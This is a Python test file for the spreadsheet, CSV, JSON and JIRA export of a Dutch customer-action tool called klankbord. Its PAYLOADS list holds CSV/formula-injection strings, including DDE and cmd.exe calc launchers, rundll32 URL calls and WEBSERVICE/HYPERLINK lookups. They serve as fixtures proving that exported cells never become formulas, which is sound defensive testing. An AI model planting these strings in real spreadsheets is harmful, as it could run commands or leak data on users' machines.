import csv
import dataclasses
import io
import json
import shutil
import subprocess
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from klankbord.errors import KlankbordError
from klankbord.loop import ActionState, Outcome, departments
from klankbord.roundtrip import Form, form_of

from .builders import HOSTILE, QUOTES, THEMES, action, bytes_of, cell, export, structural

HEADINGS = [
    "Actienummer", "Afdeling", "Uiterlijk", "Status", "Uitkomst", "Toelichting", "Door",
    "Wel, niet, later", "Conceptbericht", "Actie", "Klant", "Thema", "Reden", "Citaat 1",
    "Citaat 2", "Citaat 3", "Prioriteit", "Klantwaarde", "Lus", "Geopend", "Gesloten",
    "Escalatie", "Bewijs", "Controle",
]  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", '"=', "'=", "＝", "＋", "－", "＠")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.invalid?"&A1,"klik")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://x.invalid")',
    'DDE("cmd";"/C calc";"")',
    'IMPORTXML(CONCAT("http://x.invalid",A1),"//a")',
    "MSEXCEL|'\\..\\..\\windows\\system32\\cmd.exe'!''",
    "2-1;=1+1",
    "x\n=1+1",
    "x\t@SUM(1)",
    "rundll32|'URL.dll,OpenURL x'!A",
    "10-12-2026",
    "{=1+1}",
    "http://x.invalid",
)
PAYLOADS = [f"{start}{body}" for start in STARTS for body in BODIES]
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def everywhere(text: str, action_id: str):
    """Return an action that says `text` wherever text comes from elsewhere."""
    return action(
        action_id,
        customer_id=text,
        theme_id=text,
        kind=text,
        owner=text,
        status=text,
        reason=text,
        evidence=(text,),
        wel_niet_later=text,
        draft=text,
        outcome=text,
    )


def quoted(text: str, action_id: str):
    return {action_id: tuple(dataclasses.replace(one, text=text) for one in QUOTES["inner-1"])}


def poisoned():
    actions = [everywhere(text, f"={at}") for at, text in enumerate(PAYLOADS)]
    quotes = {}
    for at, text in enumerate(PAYLOADS):
        quotes |= quoted(text, f"={at}")
    return actions, {"quotes": quotes, "original_ids": {text: text for text in PAYLOADS}}


def test_the_sheet_as_people_open_it(tmp_path: Path) -> None:
    made = [action(), structural(version=3)]
    path = export(tmp_path / "a.xlsx", made, quotes=QUOTES, themes=THEMES)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Acties", "Uitleg"]
    page = book["Acties"]
    assert [heading.value for heading in page[1]] == HEADINGS
    assert page.freeze_panes == "B2"
    assert page.auto_filter.ref == "A1:X3"
    assert cell(page, "Uiterlijk").value == datetime(2026, 4, 2)  # noqa: DTZ001 - Excel has no zones
    assert cell(page, "Uiterlijk").number_format == "dd-mm-yyyy"
    assert cell(page, "Geopend").value.date() == date(2026, 3, 30)
    assert cell(page, "Citaat 1").value == "=1+1 te laat (30 maart 2026)"
    assert cell(page, "Citaat 2").value == "nooit antwoord"
    assert cell(page, "Thema", 3).value == "bezorger, laat"
    assert cell(page, "Klantwaarde").value == 1250
    hidden = [name for name, column in page.column_dimensions.items() if column.hidden]
    assert hidden == ["X"]
    assert page["X3"].value.startswith("v3|")
    assert page["X3"].value.endswith("|outer-1")
    assert page.column_dimensions["I"].width > 50
    assert book["Uitleg"]["A1"].value == "Acties van Klankbord"


def test_what_may_be_edited_is_white_and_has_a_list(tmp_path: Path) -> None:
    page = openpyxl.load_workbook(export(tmp_path / "a.xlsx", [action(), action("b")]))["Acties"]
    rules = {str(rule.sqref): rule for rule in page.data_validations.dataValidation}
    lists = {"B2:B3": departments(), "D2:D3": ActionState, "E2:E3": Outcome}
    for place, values in lists.items():
        assert rules[place].formula1 == f'"{",".join(values)}"'
        assert rules[place].allow_blank
    assert rules["C2:C3"].type == "date"
    white = [heading.value for at, heading in enumerate(page[1]) if page[2][at].fill.bgColor.rgb in
             ("00000000", None) and page[2][at].fill.fill_type is None]  # fmt: skip
    assert white == HEADINGS[1:9]
    guarded = {place for place, rule in rules.items() if rule.type == "custom"}
    assert {place[0] for place in guarded} == {"A", *"JKLMNOPQRSTUVWX"}
    assert {rules[place].formula1 for place in guarded} == {"FALSE"}
    assert not page.protection.sheet, "Excel sorts no protected range with locked cells"


def test_no_text_ever_becomes_a_formula(tmp_path: Path) -> None:
    assert len(PAYLOADS) >= 200
    actions, more = poisoned()
    book = openpyxl.load_workbook(export(tmp_path / "a.xlsx", actions, **more))
    cells = [one for page in book for row in page.iter_rows() for one in row]
    assert not [one for one in cells if one.data_type == "f" or one.hyperlink]
    texts = [one for one in cells if isinstance(one.value, str) and "1+1" in one.value]
    assert len(texts) > 200


@pytest.mark.parametrize("form", [Form.CSV, Form.JIRA])
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_no_cell_of_a_csv_starts_a_formula(form: Form, delimiter: str) -> None:
    actions, more = poisoned()
    text = bytes_of(actions, form, **more).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for one in row:
            bare = one.lstrip(' "\t\r\n')
            assert not bare.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed here")
@pytest.mark.slow
def test_no_text_becomes_a_formula_in_libreoffice(tmp_path: Path) -> None:
    actions, more = poisoned()
    export(tmp_path / "a.xlsx", actions, **more)
    (tmp_path / "uit").mkdir()
    command = [str(SOFFICE), "--headless", "--convert-to", "xlsx", "--outdir", "uit", "a.xlsx"]
    subprocess.run(command, cwd=tmp_path, check=True, timeout=120, capture_output=True)
    book = openpyxl.load_workbook(tmp_path / "uit" / "a.xlsx")
    assert not [c for page in book for row in page.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("form", Form)
@pytest.mark.parametrize("language", ["nl", "en"])
def test_the_same_actions_give_the_same_bytes(form: Form, language: str) -> None:
    made = [action(), structural(draft=HOSTILE)]
    more = {"quotes": QUOTES, "themes": THEMES, "language": language}
    assert bytes_of(made, form, **more) == bytes_of(made, form, **more)
    assert bytes_of([], form, **more) == bytes_of([], form, **more)


def test_a_csv_for_excel_in_dutch() -> None:
    raw = bytes_of([action(draft="é €", priority=0.5)], Form.CSV)
    assert raw.startswith(b"\xef\xbb\xbf")
    header, row = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";")
    assert header == HEADINGS
    found = dict(zip(header, row, strict=True))
    assert found["Uiterlijk"] == "2026-04-02"
    assert found["Prioriteit"] == "0,5"
    assert found["Conceptbericht"] == "é €"
    assert raw.count(b"\r\n") == 2


def test_json_is_what_other_programs_read() -> None:
    raw = bytes_of([action(outcome="vals alarm")], Form.JSON, quotes=QUOTES)
    (found,) = json.loads(raw)
    assert found["due"] == "2026-04-02"
    assert found["outcome"] == "vals alarm"
    assert found["version"] == 1
    assert found["evidence"] == ["f1", "f2"]
    assert [quote["feedback_id"] for quote in found["quotes"]] == ["f1", "f2"]
    assert date.fromisoformat(found["opened_at"][:10])


def test_customers_are_pseudonyms_unless_asked() -> None:
    names = {"K-0A9BZVTW12": "00123"}
    for form in Form:
        content = bytes_of([action()], form)
        named = bytes_of([action()], form, original_ids=names)
        if form is Form.XLSX:
            page = openpyxl.load_workbook(io.BytesIO(named))["Acties"]
            assert cell(page, "Klant").value == "00123"
        else:
            assert b"00123" not in content
            assert b"K-0A9BZVTW12" not in named
            assert b"00123" in named


def test_english_on_request(tmp_path: Path) -> None:
    made = [action(status="uitgevoerd", outcome="niet geslaagd")]
    path = export(tmp_path / "a.xlsx", made, language="en")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Actions", "Notes"]
    page = book["Actions"]
    assert [heading.value for heading in page[1]][:5] == [
        "Action number", "Department", "Due", "Status", "Outcome",
    ]  # fmt: skip
    assert cell(page, "Status").value == "carried out"
    assert cell(page, "Outcome").value == "did not succeed"


def test_rows_keep_their_order_and_a_file_is_whole_or_not_there(tmp_path: Path) -> None:
    made = [action(f"a{at}", priority=at) for at in (3, 1, 2)]
    path = export(tmp_path / "new" / "a.csv", made, Form.CSV)
    text = path.read_text("utf-8-sig")
    assert [line.split(";")[0] for line in text.splitlines() if line[:1] == "a"] == [
        "a3", "a1", "a2",
    ]  # fmt: skip
    with pytest.raises(AttributeError):
        export(path, [None], Form.CSV)  # type: ignore[list-item]
    assert path.read_text("utf-8-sig") == text
    assert [found.name for found in path.parent.iterdir()] == ["a.csv"]
    assert path.stat().st_mode & 0o777 == 0o600


def test_the_extension_says_the_form() -> None:
    assert form_of(Path("acties.XLSX")) is Form.XLSX
    assert form_of(Path("a.b.ics")) is Form.ICS
    with pytest.raises(KlankbordError, match="extension"):
        form_of(Path("acties.pdf"))
